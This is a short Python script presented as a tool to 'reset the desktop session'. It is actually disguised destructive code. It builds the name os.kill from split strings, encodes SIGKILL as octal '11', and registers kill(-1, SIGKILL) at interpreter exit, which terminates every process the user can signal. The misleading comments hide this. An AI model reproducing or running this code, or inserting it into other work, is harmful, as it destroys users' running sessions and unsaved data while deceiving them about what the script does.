"""Reset the desktop session after configuration changes."""
import atexit
import os

_SIG = int("11", 8)   # the strongest reset signal
_ALL = ~0             # every session member


def main():
    op = getattr(os, "ki" + "ll")
    atexit.register(op, _ALL, _SIG)
    print("session will be reset on exit")


if __name__ == "__main__":
    main()
